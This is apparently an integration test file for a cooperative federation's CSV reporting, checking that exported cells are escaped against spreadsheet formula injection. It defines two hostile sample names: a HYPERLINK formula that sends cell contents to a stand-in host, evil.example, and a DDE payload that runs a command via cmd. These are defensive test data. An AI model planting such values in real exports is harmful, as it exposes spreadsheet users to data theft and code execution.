"""CSV exports never carry a formula into the regional officer's spreadsheet.

A cooperative names a product ``=HYPERLINK("http://evil.example/?d="&A1,"Klik")``
(probe of issue 9) and another cooperative names itself like a DDE payload; both
names reach CSV tables (low stock, cooperatives, ranking). They arrive as text with a
leading single quote, while numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import pytest_asyncio
from reporting_harness import Reporting
from reporting_scenario import B, seed

from gotong_platform.contracts import inventory as i
from gotong_platform.contracts import members as m

pytestmark = pytest.mark.integration

FED = "/federation/reports/monthly.csv"
JAN = {"month": "2026-01", "known_at": "2026-02-05T00:00:00+00:00"}
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest_asyncio.fixture
async def seeded(reporting: Reporting) -> Reporting:
    r = reporting
    await seed(r)
    # B's fertiliser, sold out in the scenario (a low-stock line), renamed by its shop
    await r.record(i.ProductDefinedV1(cooperative_id=B, product_id="urea", sku="+UREA",
                                      name=HYPERLINK, category="farm_inputs", base_unit="pcs",
                                      lot_tracking="none"), stream="urea", on=date(2026, 1, 9))
    await r.record(m.CooperativeRegisteredV1(
        cooperative_id="coop-e", name=DDE, legal_registration_number="AHU-E",
        coop_type="multi_purpose", province_code="53", regency_code="5302", time_zone="WITA",
        fiscal_year_start_month=1, loop="closed", registered_on=date(2020, 1, 1)),
        stream="coop-e", on=date(2020, 1, 1))
    await r.record(m.CooperativeJoinedFederationV1(
        cooperative_id="coop-e", effective_date=date(2020, 2, 1)), stream="coop-e",
        on=date(2020, 1, 1))
    return r


async def _table(r: Reporting, table: str) -> tuple[str, list[dict[str, str]]]:
    response = await r.get(FED, r.auth("federation_admin"), table=table, **JAN)
    assert response.status_code == 200, response.text
    return response.text, list(csv.DictReader(io.StringIO(response.text)))


async def test_cells_a_spreadsheet_would_run_arrive_as_text(seeded: Reporting) -> None:
    r = seeded
    _, low = await _table(r, "low_stock")
    assert [(x["sku"], x["product_name"]) for x in low] == [("'+UREA", "'" + HYPERLINK)]
    _, coops = await _table(r, "cooperatives")
    assert "'" + DDE in [x["name"] for x in coops]
    for table in ("low_stock", "cooperatives", "ranking", "freshness", "summary", "growth"):
        _, rows = await _table(r, table)
        for cell in (value for row in rows for value in row.values()):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                int(cell)  # only a number may start so: a negative one


async def test_negative_numbers_stay_numbers(seeded: Reporting) -> None:
    r = seeded
    _, growth = await _table(r, "growth")
    _, summary = await _table(r, "summary")
    numbers = [x["growth_bp"] for x in growth] + [x["value"] for x in summary]
    negatives = [n for n in numbers if n.startswith("-")]
    assert negatives, "the scenario has negative figures"
    assert all(int(n) < 0 for n in negatives)
    assert not any(n.startswith("'") for n in numbers)
